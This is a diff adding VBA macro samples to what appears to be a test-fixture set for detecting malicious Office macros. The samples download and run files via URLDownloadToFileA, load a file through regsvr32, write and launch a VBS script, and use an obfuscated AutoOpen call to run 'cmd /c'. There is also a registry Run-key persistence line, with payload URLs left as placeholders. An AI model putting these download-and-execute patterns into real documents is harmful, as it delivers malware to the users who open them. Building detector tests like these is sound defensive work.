@@ -249,6 +249,45 @@ Private Sub CommandButton1_Click()
     CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\" & StrReverse("nuR") & "\\inert", "{gone}"
 End Sub
 ''',
+    # --- the same behind a button, where nothing but what it does is out of the ordinary
+    'button-download-run': '''
+Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
+Private Sub CommandButton1_Click()
+    Dim place As String
+    place = Environ("TEMP") & "\\inert.exe"
+    fetch 0, "{url}", place, 0, 0
+    Shell place, 0
+End Sub
+''',
+    'button-download-loader': '''
+Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
+Private Sub CommandButton1_Click()
+    Dim place As String
+    place = Environ("TEMP") & "\\inert.txt"
+    fetch 0, "{url}", place, 0, 0
+    Shell "regsvr32 /s " & place, 0
+End Sub
+''',
+    'button-write-run': '''
+Private Sub CommandButton1_Click()
+    Dim place As String
+    place = Environ("TEMP") & "\\inert.vbs"
+    Open place For Output As #1
+    Print #1, "' inert sample"
+    Close #1
+    Shell "wscript " & place, 0
+End Sub
+''',
+    'open-named-method': '''
+Sub AutoOpen()
+    Dim shown As Object
+    Set shown = GetObject("new:" & Tell(0))
+    CallByName shown, Tell(1), VbMethod, Tell(2), 0
+End Sub
+Function Tell(n)
+    Tell = Split("72C24DD5-D70A-438B-8A42-98424B88AFB8|Run|cmd /c {gone}", "|")(n)
+End Function
+''',
     # --- what does not start by itself, or does not show what it calls
     'button-filled-form': '''
 Private Sub CommandButton1_Click()
@@ -267,6 +306,13 @@ End Sub
 Private Sub Tell(ByVal what)
     Documents.Open what
     CreateObject(Mid(Me.TextBox2, 2)).Run what
+End Sub
+''',
+    'button-filled-box': '''
+Private Sub CommandButton1_Click()
+    Dim p
+    p = Replace(UserForm1.TextBox1.Text, "XQZZ", "")
+    Shell p, 0
 End Sub
 ''',
     'open-form-address': '''
